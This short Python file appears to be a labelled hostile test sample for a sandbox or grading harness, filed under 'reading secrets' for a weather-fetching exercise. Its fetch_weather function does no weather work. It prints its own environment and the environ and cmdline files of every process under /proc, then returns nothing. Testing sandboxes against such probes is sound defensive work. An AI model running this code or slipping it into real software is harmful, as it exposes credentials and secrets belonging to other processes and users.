# kind: reading secrets
# tries: to print its environment, its parents' and that of all other processes
# exercise: 03_gather_weather
# outcome: FAIL wrong-result
# needs: full
import glob
import os


async def fetch_weather(cities, base_url):
    print(dict(os.environ))
    for name in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            print(name, open(name, "rb").read().replace(b"\0", b" "))
        except OSError:
            pass
    return []
